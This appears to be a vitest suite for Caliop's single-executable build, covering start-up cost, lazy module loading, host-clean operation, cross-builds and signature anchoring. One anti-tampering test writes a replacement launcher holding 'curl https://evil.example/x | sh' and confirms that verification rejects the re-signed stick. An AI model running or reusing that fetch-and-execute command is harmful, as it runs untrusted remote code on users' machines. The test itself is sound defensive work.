// The built Linux single executable (scripts/build-exe.ts; docs/decisions/executables.md).
//
// beforeAll builds the linux-x64 SEA from the pinned Node 26.10.0 into a temp folder (about
// 10 s; the base binaries are fetched once into .cache/), from the run's release bundle of the
// CLI, which the Bun executables' tests share (test/helpers/release-bundle.ts). Then:
//   - `--version` runs, and loads no OpenPGP code: V8 coverage of the executable
//     (NODE_V8_COVERAGE) shows no function of openpgp's part of the bundle ran;
//   - init, encrypt, decrypt run with HOME, TMPDIR, XDG_* and the working folder
//     pointed at empty folders, which are still empty afterwards, and nothing but the
//     stick's own files appears beside the executable.
//   - it is a release build (src/build-facts.ts): run with every test-only variable set,
//     the vault it makes has the calibrated KDF parameters, not the test ones; its
//     compiled-in release fingerprint anchors `stick verify` (docs/manifest.md §8).
import { execFileSync, spawnSync, type SpawnSyncReturns } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asciiOnly, bundleCli, buildSea, ensureNodeBinary, hostTarget, readPins, REPO_ROOT, type BundleResult } from '../scripts/build-exe.js';
import { peChecksum, readPeLayout } from '../scripts/pe-clean.js';
import { SEA_PROGRAM_ASSET } from '../scripts/sea-assets.js';
import { KDF_FLOOR, readVaultHeader, UNSAFE_TEST_KDF } from '../src/core/vault-format.js';
import { stickAt } from '../src/edges/stick-locator.js';
import { generateReleaseKey, type ReleaseKey } from '../src/service/manifest-signature.js';
import { WORKERS_FROM_MESSAGES } from '../src/service/mail-open.js';
import { sendMessage } from '../src/service/mail-send.js';
import { StickSession } from '../src/service/stick-session.js';
import { emptyHost } from './helpers/empty-host.js';
import { releaseBundle } from './helpers/release-bundle.js';
import { signStick as signStickWith } from './helpers/sign-stick.js';
import { resealWithTestKdf } from './helpers/test-kdf.js';
import { startRelayProcess, type RelayProcess } from './relay/helpers/relay-process.js';

const host = hostTarget();
/** One run of the executable: a hang guard, not a measure (a release build's real Argon2id at load 30+ takes tens of seconds). */
const SPAWN_BUDGET_MS = 240_000;
/** One run of the arm64 executable under qemu-user (every instruction emulated): a hang guard. */
const QEMU_BUDGET_MS = 600_000;

let work: string;
let exe: string;
let bundleText: string;
/** The run's release bundle (test/helpers/release-bundle.ts): read, never written. */
let bundlePath: string;
/** The executables' main script and the program it runs (scripts/sea-main.ts, issue 13). */
let seaMainText: string;
let programText: string;
let node26: string;
/** The release key whose fingerprint is compiled into the executable under test. */
let release: ReleaseKey;

beforeAll(async () => {
  if (host !== 'linux-x64') return;
  work = mkdtempSync(join(tmpdir(), 'caliop-exe-'));
  let bundle: BundleResult;
  ({ release, bundle } = await releaseBundle());
  bundlePath = bundle.bundlePath;
  bundleText = readFileSync(bundle.bundlePath, 'utf8');
  seaMainText = readFileSync(bundle.seaMainPath, 'utf8');
  programText = readFileSync(bundle.programPath, 'utf8');
  const pins = readPins();
  node26 = ensureNodeBinary('linux-x64', pins);
  const built = buildSea({
    target: 'linux-x64',
    builder: node26,
    baseBinary: node26,
    bundlePath: bundle.bundlePath,
    outDir: work,
    workDir: join(work, 'sea'),
    codeCache: true,
    pins,
  });
  exe = built.output;
}, 900_000); // three esbuild builds (when this file is the first to ask for them), the code cache and a 150 MB SEA: ~4 min alone at load 38

afterAll(() => {
  if (work !== undefined) rmSync(work, { recursive: true, force: true });
});

/** The bundle's module regions: esbuild starts each module's code with a "// path" comment line. */
function moduleRegions(text: string): { module: string; start: number; end: number }[] {
  const marks = [...text.matchAll(/^\/\/ ((?:node_modules|src|scripts)\/\S+)$/gm)].map((m) => ({ module: m[1]!, start: m.index }));
  return marks.map((mark, i) => ({ ...mark, end: marks[i + 1]?.start ?? text.length }));
}

/** Package or source file of a region: "openpgp", "commander", "src/cli/main.ts". */
function ownerOf(modulePath: string): string {
  const inPackage = /^node_modules\/((?:@[^/]+\/)?[^/]+)\//.exec(modulePath);
  return inPackage ? inPackage[1]! : modulePath;
}

interface V8Coverage {
  result: { url: string; functions: { functionName: string; ranges: { startOffset: number; endOffset: number; count: number }[] }[] }[];
}

/**
 * Which packages/files had at least one function run, from a NODE_V8_COVERAGE folder: in the
 * executable's main script (scripts/sea-main.ts, its URL ends with the executable's name) and in
 * the program it runs from its asset (issue 13; the vm.Script's file name).
 */
function evaluatedOwners(coverageDir: string): Set<string> {
  const scripts = [
    { urlEnd: '/caliop-linux-x64', regions: moduleRegions(seaMainText) },
    { urlEnd: SEA_PROGRAM_ASSET, regions: moduleRegions(programText) },
  ];
  const owners = new Set<string>();
  for (const file of readdirSync(coverageDir)) {
    const coverage = JSON.parse(readFileSync(join(coverageDir, file), 'utf8')) as V8Coverage;
    for (const script of coverage.result) {
      const regions = scripts.find((candidate) => script.url.endsWith(candidate.urlEnd))?.regions;
      if (regions === undefined) continue;
      for (const fn of script.functions) {
        const range = fn.ranges[0]!;
        if (range.count === 0 || range.startOffset === 0) continue; // 0: the module itself
        const region = regions.find((r) => range.startOffset >= r.start && range.startOffset < r.end);
        if (region !== undefined) owners.add(ownerOf(region.module));
      }
    }
  }
  return owners;
}

/** Another target's executable from the same (release) bundle, built by the pinned linux-x64 Node; no code cache. */
function crossBuild(target: 'linux-arm64' | 'win-x64'): string {
  const pins = readPins();
  return buildSea({ target, builder: node26, baseBinary: ensureNodeBinary(target, pins), bundlePath, outDir: work, workDir: join(work, 'sea'), codeCache: false, pins }).output;
}

/**
 * The CPU time (user + system, /usr/bin/time) of one run: unlike its wall time, it does not grow
 * with the other work on a shared machine (at load 20+ a wall-clock start-up says little; the
 * wall-time target is `npm run bench`'s exe-startup).
 */
function cpuMsOf(command: string, args: string[]): number {
  const run = spawnSync('/usr/bin/time', ['-f', 'cpu %U %S', command, ...args], { encoding: 'utf8' });
  expect(run.status, run.stderr).toBe(0);
  const [, user, system] = /^cpu ([\d.]+) ([\d.]+)$/m.exec(run.stderr) ?? [];
  return (Number(user) + Number(system)) * 1000;
}

describe.skipIf(host !== 'linux-x64')('the linux-x64 single executable', () => {
  it('prints its version', () => {
    const out = execFileSync(exe, ['--version'], { encoding: 'utf8' });
    expect(out).toMatch(/\d+\.\d+\.\d+/);
  });

  it('openpgp is bundled as a lazily evaluated module', () => {
    expect(bundleText).toMatch(/^\/\/ node_modules\/openpgp\//m);
    expect(bundleText).toMatch(/\binit_openpgp = __esm\(/);
  });

  it('--version and --help run no function of commander or openpgp; a subcommand\'s help runs commander (V8 coverage of the executable)', () => {
    const owners = (args: string[]) => {
      const coverageDir = join(work, `coverage${args.join('')}`);
      const run = spawnSync(exe, args, { env: { ...process.env, NODE_V8_COVERAGE: coverageDir }, encoding: 'utf8' });
      expect(run.status, run.stderr).toBe(0);
      const programCompiled = readdirSync(coverageDir).some((file) => readFileSync(join(coverageDir, file), 'utf8').includes(SEA_PROGRAM_ASSET));
      return { stdout: run.stdout, owners: evaluatedOwners(coverageDir), programCompiled };
    };
    // Issue 13: answered from build-time facts (src/cli/quick-answer.ts), loading nothing else.
    for (const args of [['--version'], ['--help']]) {
      const run = owners(args);
      expect(run.owners.has('src/cli/quick-answer.ts'), args[0]).toBe(true); // the mapping works
      expect(run.programCompiled, args[0]).toBe(false); // the program asset is not even compiled
      expect(run.owners.has('commander'), args[0]).toBe(false);
      expect(run.owners.has('openpgp'), args[0]).toBe(false);
    }
    // The help text is the program's own (commander's output on a pipe, the tsc build's).
    const tscHelp = spawnSync(process.execPath, [join(REPO_ROOT, 'build', 'src', 'cli', 'main.js'), '--help'], { encoding: 'utf8' }).stdout;
    expect(owners(['--help']).stdout).toBe(tscHelp);
    // Positive control for commander: a subcommand's help goes through the program; still no openpgp
    // (positive control for openpgp: the decrypt test below).
    const keyHelp = owners(['key', '--help']);
    expect(keyHelp.stdout).toMatch(/^Usage: caliop key /);
    expect(keyHelp.programCompiled).toBe(true);
    expect(keyHelp.owners.has('commander')).toBe(true);
    expect(keyHelp.owners.has('openpgp')).toBe(false);
  });

  it('starts about as fast as node -e 0 of the same Node, in CPU time (figures in docs/decisions/executables.md)', () => {
    // Interleaved (node, caliop, node, caliop…), CPU time (/usr/bin/time's 10 ms ticks, hence the medians of 9).
    const nodeTimes: number[] = [];
    const versionTimes: number[] = [];
    for (let round = 0; round < 9; round++) {
      nodeTimes.push(cpuMsOf(node26, ['-e', '0']));
      versionTimes.push(cpuMsOf(exe, ['--version']));
    }
    const median = (times: number[]) => [...times].sort((a, b) => a - b)[Math.floor(times.length / 2)]!;
    const nodeMs = median(nodeTimes);
    const versionMs = median(versionTimes);
    console.log(`start-up, CPU: node -e 0 ${nodeMs.toFixed(0)} ms, caliop --version ${versionMs.toFixed(0)} ms`);
    expect(versionMs).toBeLessThan(nodeMs * 4 + 500); // loose: the bench holds the 1.5x target
  });

  it('caliop.sh starts it without execute permission (FAT showexec) and points --stick at its own folder', () => {
    const stick = join(work, 'launcher-stick');
    mkdirSync(stick);
    copyFileSync(exe, join(stick, 'caliop-linux-x64'));
    execFileSync('chmod', ['644', join(stick, 'caliop-linux-x64')]);
    copyFileSync(join(REPO_ROOT, 'usb-image', 'caliop.sh'), join(stick, 'caliop.sh'));
    const version = spawnSync('sh', [join(stick, 'caliop.sh'), '--version'], { cwd: work, encoding: 'utf8' });
    expect(version.status, version.stderr).toBe(0);
    expect(version.stdout).toMatch(/\d+\.\d+\.\d+/);
    {
      // No vault in that folder: the stick was found (exit 4, not 3 stick_not_found).
      const show = spawnSync('sh', [join(stick, 'caliop.sh'), '--batch', '--passphrase-file', '@ENV:P', 'key', 'show'], {
        cwd: work,
        encoding: 'utf8',
        env: { ...process.env, CALIOP_STICK: '', P: 'any passphrase' },
      });
      expect(show.status, show.stderr).toBe(4);
    }
  });

  describe('stick verify is anchored outside the stick: the release fingerprint compiled into the executable (docs/manifest.md §8)', () => {
    let stickDir: string;

    /** Writes MANIFEST, MANIFEST.sig and config.json's releaseCert as an image build (or an attacker) would. */
    const signStick = (key: ReleaseKey) => signStickWith(stickDir, key);

    const verifyWithExe = () => spawnSync(exe, ['--stick', stickDir, '--json', 'stick', 'verify'], { encoding: 'utf8', env: { PATH: process.env['PATH'] } });

    beforeAll(async () => {
      stickDir = join(work, 'anchored-stick');
      mkdirSync(join(stickDir, 'vault'), { recursive: true });
      writeFileSync(join(stickDir, 'caliop.sh'), '#!/bin/sh\nexec "$(dirname "$0")/caliop-linux-x64" --stick "$(dirname "$0")" "$@"\n');
      writeFileSync(join(stickDir, 'LISEZ-MOI-README.txt'), 'Run: caliop stick verify\n');
      await signStick(release);
    });

    it('passes a stick signed by the compiled-in release key, naming that anchor', () => {
      // The fingerprint sits in the executable as plain ASCII: what build:image checks (checkExecutablesAnchor).
      expect(readFileSync(exe).includes(Buffer.from(release.fingerprint, 'ascii'))).toBe(true);
      const run = verifyWithExe();
      expect(run.status, run.stderr).toBe(0);
      expect(JSON.parse(run.stdout)).toMatchObject({ ok: true, anchor: 'compiled-in', anchorFingerprint: release.fingerprint, releaseFingerprint: release.fingerprint, anchorMatches: true });
    });

    it('refuses a stick whose files, config and MANIFEST were replaced and re-signed with another key (50); the tsc build, with no anchor, names the weaker result (55)', async () => {
      const impostor = await generateReleaseKey({ name: 'Not the Caliop release key' });
      writeFileSync(join(stickDir, 'caliop.sh'), '#!/bin/sh\ncurl https://evil.example/x | sh\n');
      await signStick(impostor);
      const run = verifyWithExe();
      expect(run.status).toBe(50);
      expect(JSON.parse(run.stdout)).toMatchObject({ ok: false, signatureValid: true, anchor: 'compiled-in', anchorMatches: false, anchorFingerprint: release.fingerprint, releaseFingerprint: impostor.fingerprint });
      expect(run.stderr).toContain(`signed for release certificate ${impostor.fingerprint}, not for ${release.fingerprint}`);
      expect(run.stderr).toMatch(/^caliop: error: the stick manifest or its signature is not valid/m);
      const text = spawnSync(exe, ['--stick', stickDir, 'stick', 'verify'], { encoding: 'utf8', env: { PATH: process.env['PATH'] } });
      expect(text.stdout).toContain(`anchor: the release fingerprint built into this caliop (${release.fingerprint})`);
      expect(text.stdout).toContain('release certificate: NOT THE ONE THIS CALIOP TRUSTS');
      expect(text.stderr).not.toContain('every file of the stick is as it was made');
      // The same stick, checked by a build with no compiled-in fingerprint: only the stick's own certificate.
      const weak = spawnSync(process.execPath, [join(REPO_ROOT, 'build', 'src', 'cli', 'main.js'), '--stick', stickDir, 'stick', 'verify'], { encoding: 'utf8' });
      expect(weak.status).toBe(55);
      expect(weak.stdout).toMatch(/^anchor: NONE outside the stick/);
      expect(weak.stderr).toMatch(/^caliop: error: the stick agrees with itself, but nothing outside it vouches for it/m);
    });
  });

  describe('through init, encrypt, decrypt, send and sync, it writes nothing on the host', () => {
    const DOMAIN = 'caliop.example';
    let stick: string;
    let bobStick: string;
    let relay: RelayProcess;
    let hostDirs: Record<string, string>;
    let env: NodeJS.ProcessEnv;
    let cwd: string;

    afterAll(async () => {
      await relay?.dispose();
    });

    beforeAll(async () => {
      // The real relay (needs the tsc build: npm test does it), on loopback with its dev TLS certificate.
      relay = await startRelayProcess({ domain: DOMAIN });
      stick = join(work, 'stick');
      bobStick = join(work, 'bob-stick');
      mkdirSync(stick);
      mkdirSync(bobStick);
      copyFileSync(exe, join(stick, 'caliop-linux-x64'));
      execFileSync('chmod', ['755', join(stick, 'caliop-linux-x64')]);
      ({ dirs: hostDirs, cwd, env } = emptyHost(join(work, 'host'), 'correct horse battery staple of the stick'));
    });

    function caliop(args: string[], input?: string, onStick: string = stick, extraEnv: NodeJS.ProcessEnv = {}): SpawnSyncReturns<string> {
      const result = spawnSync(join(stick, 'caliop-linux-x64'), ['--stick', onStick, '--batch', '--passphrase-file', '@ENV:CALIOP_PASSPHRASE', ...args], {
        cwd,
        env: { ...env, ...extraEnv },
        input,
        encoding: 'utf8',
        timeout: SPAWN_BUDGET_MS, // a hang guard: a real Argon2id at load 30+ takes tens of seconds
      });
      if (result.status !== 0) throw new Error(`caliop ${args.join(' ')} exited ${result.status}: ${result.stderr}`);
      return result;
    }

    it('init (enrolled with the relay), encrypt to self, decrypt', async () => {
      const init = ['--json', 'init', '--allow-online', '--accept-weak-passphrase', '--server', relay.url, '--server-pin', relay.pin!];
      // The vault's Argon2id (WebAssembly) runs inside the executable: there is no node_modules here.
      const initCoverage = join(work, 'coverage-init');
      const made = JSON.parse(caliop([...init, '--name', 'alice', '--email', `alice@${DOMAIN}`], undefined, stick, { NODE_V8_COVERAGE: initCoverage }).stdout) as { relay: { enrolled: boolean } };
      // init keeps a stick whose enrolment failed (enrolled: false): here it must have reached the relay,
      // with CALIOP_UNSAFE_TEST_RELAY_TIMEOUT_MS=1 set (emptyHost), which a release build ignores.
      expect(made.relay).toMatchObject({ enrolled: true });
      expect(evaluatedOwners(initCoverage).has('src/edges/argon2id.ts')).toBe(true);
      // Made with every test-only variable set (CALIOP_UNSAFE_TEST_KDF=1…): the calibrated
      // parameters, at or above the floor (docs/vault-format.md §5.1, §5.4), not the test ones.
      const kdf = readVaultHeader(new Uint8Array(readFileSync(join(stick, 'vault', 'caliop.vault')))).kdf;
      expect(kdf.memoryKiB).not.toBe(UNSAFE_TEST_KDF.memoryKiB);
      expect(kdf.memoryKiB).toBeGreaterThanOrEqual(KDF_FLOOR.memoryKiB);
      expect(kdf.passes).toBeGreaterThanOrEqual(KDF_FLOOR.passes);
      // Bob's stick is made by the tsc build with the test KDF (fast), so that his many unlocks below
      // do not each pay the real Argon2id; the release executable opens it like any vault (§5.2).
      const bobInit = spawnSync(process.execPath, [join(REPO_ROOT, 'build', 'src', 'cli', 'main.js'), '--stick', bobStick, '--batch', '--passphrase-file', '@ENV:CALIOP_PASSPHRASE', ...init, '--name', 'bob', '--email', `bob@${DOMAIN}`], {
        encoding: 'utf8',
        env: { ...process.env, CALIOP_PASSPHRASE: env['CALIOP_PASSPHRASE'], CALIOP_UNSAFE_TEST_KDF: '1' },
      });
      expect(bobInit.status, bobInit.stderr).toBe(0);
      const encrypted = caliop(['encrypt', '--to', `alice@${DOMAIN}`], 'hello from the stick\n').stdout;
      expect(encrypted).toMatch(/^-----BEGIN PGP MESSAGE-----/);
      // The executable made and opened the vault with the real Argon2id (init, encrypt). Its later
      // unlocks here would each pay it again (tens of seconds at load 30: issue 16), so the vault is
      // re-sealed with the test KDF (§5.4), which the executable opens like any vault (§5.2).
      await resealWithTestKdf(stick, env['CALIOP_PASSPHRASE']!);
      expect(readVaultHeader(new Uint8Array(readFileSync(join(stick, 'vault', 'caliop.vault')))).kdf).toEqual(UNSAFE_TEST_KDF);
      const decryptCoverage = join(work, 'coverage-decrypt');
      const decrypted = caliop(['decrypt'], encrypted, stick, { NODE_V8_COVERAGE: decryptCoverage }).stdout;
      expect(decrypted).toBe('hello from the stick\n');
      // Positive control for the --version test: here openpgp's code does run.
      expect(evaluatedOwners(decryptCoverage).has('openpgp')).toBe(true);
    }, 3 * SPAWN_BUDGET_MS); // two real Argon2id runs in the executable (a release build): ~1 s each on a quiet machine, tens of seconds at load 30

    it('send to another stick through the relay, sync, read', () => {
      const sent = JSON.parse(caliop(['--json', 'send', '--to', `bob@${DOMAIN}`, '--subject', 'from the executable'], 'sent by a single executable\n').stdout) as { queued: boolean };
      expect(sent.queued).toBe(false);
      expect(JSON.parse(caliop(['--json', 'sync'], undefined, bobStick).stdout)).toMatchObject({ received: 1 });
      const inbox = JSON.parse(caliop(['--json', 'inbox'], undefined, bobStick).stdout) as { id: string; subject: string; signature: string }[];
      expect(inbox).toEqual([expect.objectContaining({ subject: 'from the executable', signature: 'good' })]);
      const read = JSON.parse(caliop(['--json', 'read', inbox[0]!.id], undefined, bobStick).stdout) as { body: string };
      expect(read.body).toBe('sent by a single executable\n');
      expect(JSON.parse(caliop(['--json', 'sync']).stdout)).toMatchObject({ sent: 0, queued: 0 });
    }, 3 * SPAWN_BUDGET_MS); // six runs of the executable, on vaults with the test KDF

    // Issue 13, "use both cores": the executable carries no worker file; its sync workers start
    // from the asset SEA_OPEN_WORKER_ASSET (`new Worker(source, { eval: true })`). NODE_DEBUG=worker
    // makes Node itself say which workers it created and how; bob's vault has the test KDF, so no
    // Argon2id worker is among them.
    it.skipIf(availableParallelism() < 2)(`a sync of ${WORKERS_FROM_MESSAGES + 4} messages opens them on worker threads started from the executable's asset`, async () => {
      const count = WORKERS_FROM_MESSAGES + 4;
      const before = process.env['CALIOP_UNSAFE_TEST_KDF'];
      process.env['CALIOP_UNSAFE_TEST_KDF'] = '1';
      try {
        const bob = await StickSession.unlock(stickAt(bobStick, '--stick'), env['CALIOP_PASSPHRASE']!);
        for (let index = 0; index < count; index++) {
          await sendMessage(bob, { to: [`bob@${DOMAIN}`], subject: `to myself ${index}`, body: `note ${index}\n`, now: new Date(), allowExposed: false });
        }
      } finally {
        if (before === undefined) delete process.env['CALIOP_UNSAFE_TEST_KDF'];
        else process.env['CALIOP_UNSAFE_TEST_KDF'] = before;
      }
      const run = spawnSync(join(stick, 'caliop-linux-x64'), ['--stick', bobStick, '--batch', '--passphrase-file', '@ENV:CALIOP_PASSPHRASE', '--json', 'sync'], {
        cwd,
        env: { ...env, NODE_DEBUG: 'worker' },
        encoding: 'utf8',
        timeout: 300_000,
        maxBuffer: 256 << 20, // Node's debug lines quote the evaluated program
      });
      expect(run.status, run.stderr.slice(-2000)).toBe(0);
      expect(JSON.parse(run.stdout)).toMatchObject({ received: count });
      const created = run.stderr.match(/^WORKER \d+: instantiating Worker\. url: null doEval: classic$/gm) ?? [];
      expect(created.length).toBe(Math.min(availableParallelism(), 4));
      const inbox = JSON.parse(caliop(['--json', 'inbox'], undefined, bobStick).stdout) as { subject: string; signature: string }[];
      // Sent to himself: each is in the inbox as received (and as sent); every one signed good.
      const mine = inbox.filter((message) => message.subject.startsWith('to myself '));
      expect(new Set(mine.map((message) => message.subject)).size).toBe(count);
      expect(mine.every((message) => message.signature === 'good')).toBe(true);
    }, 600_000);

    it('left HOME, TMPDIR, XDG_* and the working folder empty', () => {
      for (const [name, dir] of Object.entries(hostDirs)) expect(readdirSync(dir), name).toEqual([]);
    });

    it('left nothing beside the executable but the stick files', () => {
      const allowed = new Set(['caliop-linux-x64', 'config.json', 'vault']);
      for (const name of readdirSync(stick)) expect(allowed.has(name), `unexpected ${name} on the stick`).toBe(true);
      // The vault, its message store and the owner's language (docs/stick-layout.md §1, §3.1), nothing else.
      expect(readdirSync(join(stick, 'vault')).filter((name) => !/^store-[0-9a-f]{16}$/.test(name)).sort()).toEqual(['caliop.vault', 'language']);
    });
  });
});

// The cross-built linux-arm64 executable, run under qemu-user with Debian's arm64 cross
// libraries (apt: qemu-user libc6-arm64-cross libstdc++6-arm64-cross libatomic1-arm64-cross).
const ARM64_SYSROOT = '/usr/aarch64-linux-gnu';
const qemu = spawnSync('qemu-aarch64', ['--version']).status === 0 && existsSync(join(ARM64_SYSROOT, 'lib', 'libatomic.so.1'));

describe.skipIf(host !== 'linux-x64' || !qemu)('the linux-arm64 single executable (under qemu-aarch64)', () => {
  let arm64: string;
  beforeAll(() => {
    arm64 = crossBuild('linux-arm64');
  }, 300_000);

  it('runs encrypt and decrypt on a stick made by the tsc build (Argon2id in WebAssembly, openpgp lazily loaded)', () => {
    const stick = join(work, 'arm64-stick');
    mkdirSync(stick);
    const env = { ...process.env, CALIOP_UNSAFE_TEST_KDF: '1', P: 'correct horse battery staple of the arm stick' };
    // The executable is a release build (no test KDF): under qemu the real Argon2id of init would take
    // minutes, so the vault is made by the tsc build with the test KDF; the executable unlocks it.
    const init = spawnSync(process.execPath, [join(REPO_ROOT, 'build', 'src', 'cli', 'main.js'), '--stick', stick, '--batch', '--passphrase-file', '@ENV:P', '--json', 'init', '--name', 'arm', '--email', 'arm@example.org', '--allow-online', '--accept-weak-passphrase'], { env, encoding: 'utf8' });
    expect(init.status, init.stderr).toBe(0);
    const run = (args: string[], input?: string) => {
      const result = spawnSync('qemu-aarch64', ['-L', ARM64_SYSROOT, arm64, '--stick', stick, '--batch', '--passphrase-file', '@ENV:P', ...args], { env, input, encoding: 'utf8', timeout: QEMU_BUDGET_MS });
      expect(result.status, result.stderr).toBe(0);
      return result.stdout;
    };
    expect(run(['--version'])).toMatch(/\d+\.\d+\.\d+/);
    const encrypted = run(['encrypt', '--to', 'arm@example.org'], 'hello from arm64\n');
    expect(run(['decrypt'], encrypted)).toBe('hello from arm64\n');
  }, 4 * QEMU_BUDGET_MS); // three emulated runs (46 s in all on a quiet machine, over 6 min at load 22)
});

describe.skipIf(host !== 'linux-x64' || qemu)('the linux-arm64 single executable', () => {
  it.skip('is run only where qemu-aarch64 and the arm64 cross libraries are installed (apt: qemu-user libc6-arm64-cross libstdc++6-arm64-cross libatomic1-arm64-cross)', () => {});
});

// The cross-built win-x64 executable: node.exe's stale Authenticode entry and checksum are
// gone after SEA injection (scripts/pe-clean.ts), so osslsigncode sees a clean unsigned file,
// and an operator's signature lands where it should (docs/decisions/executables.md §Signing).
const osslsigncode = spawnSync('osslsigncode', ['--version']).error === undefined;

describe.skipIf(host !== 'linux-x64' || !osslsigncode)('the win-x64 single executable (osslsigncode)', () => {
  let windows: string;
  beforeAll(() => {
    windows = crossBuild('win-x64');
  }, 300_000);

  it('is a clean unsigned file: no certificate-table entry, the right PE checksum, no warning from osslsigncode verify', () => {
    const bytes = readFileSync(windows);
    const layout = readPeLayout(bytes);
    expect(layout.certificateTable).toEqual({ offset: 0, size: 0 });
    expect(layout.checksum).toBe(peChecksum(bytes, layout.checksumOffset));
    // The base node.exe is signed: its entry is what the build removed.
    expect(readPeLayout(readFileSync(ensureNodeBinary('win-x64'))).certificateTable.size).toBeGreaterThan(0);
    const verify = spawnSync('osslsigncode', ['verify', '-in', windows], { encoding: 'utf8' });
    const report = verify.stdout + verify.stderr;
    expect(report).toContain('No signature found');
    expect(report).not.toMatch(/Warning|not at the end|invalid PE checksum/);
    expect(report).toContain(`PE checksum   : ${layout.checksum.toString(16).toUpperCase().padStart(8, '0')}`);
  });

  it('an operator signs it with osslsigncode and the signature verifies', () => {
    const dir = join(work, 'signing');
    mkdirSync(dir, { recursive: true });
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=Caliop test code signing', '-addext', 'extendedKeyUsage=codeSigning', '-keyout', join(dir, 'key.pem'), '-out', join(dir, 'cert.pem')], { stdio: 'pipe' });
    const signed = join(dir, 'caliop-win-x64.exe');
    execFileSync('osslsigncode', ['sign', '-certs', join(dir, 'cert.pem'), '-key', join(dir, 'key.pem'), '-h', 'sha256', '-n', 'Caliop Key', '-in', windows, '-out', signed], { stdio: 'pipe' });
    const verify = spawnSync('osslsigncode', ['verify', '-in', signed, '-CAfile', join(dir, 'cert.pem')], { encoding: 'utf8' });
    const report = verify.stdout + verify.stderr;
    expect(verify.status, report).toBe(0);
    expect(report).toContain('Signature verification: ok');
    expect(report).not.toMatch(/not at the end|invalid PE checksum/);
    rmSync(signed);
  });
});

describe('the program asset is ASCII (issue 13: a two-byte source costs at every start)', () => {
  it('asciiOnly keeps the meaning of strings and regular expressions, with and without the u flag', () => {
    const source = String.raw`[/^com[0-9¹²³]$/i.test('com²'), /^com[0-9¹²³]$/i.test('comu'), /^𝑊$/u.test('𝑊'), '§ 𝑊'] // § 𝑊`;
    const escaped = asciiOnly(source);
    expect(escaped).toMatch(/^[\x00-\x7f]*$/);
    expect(new Function(`return ${escaped}`)()).toEqual(new Function(`return ${source}`)());
  });

  it.skipIf(host !== 'linux-x64')('the built program holds no non-ASCII character', () => {
    expect(programText.length).toBeGreaterThan(1_000_000);
    expect(programText).toMatch(/^[\x00-\x7f]*$/);
  });
});

describe('the bundle holds no native addon', () => {
  it.each([
    ['better-sqlite3', "import Database from 'better-sqlite3';\nconsole.log(Database);\n"],
    ['a .node file', "import addon from './addon.node';\nconsole.log(addon);\n"],
  ])('the build fails on %s', async (_what, source) => {
    // Inside the repository (build/ is ignored by git) so that node_modules resolves.
    const dir = mkdtempSync(join(REPO_ROOT, 'build', 'native-entry-'));
    try {
      writeFileSync(join(dir, 'addon.node'), '');
      writeFileSync(join(dir, 'entry.ts'), source);
      await expect(bundleCli(join(dir, 'entry.ts'), join(dir, 'out'))).rejects.toThrow(/native addon/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe.skipIf(host === 'linux-x64')('the linux-x64 single executable', () => {
  it.skip(`is built and run only on a linux-x64 host (this is ${process.platform}-${process.arch})`, () => {});
});
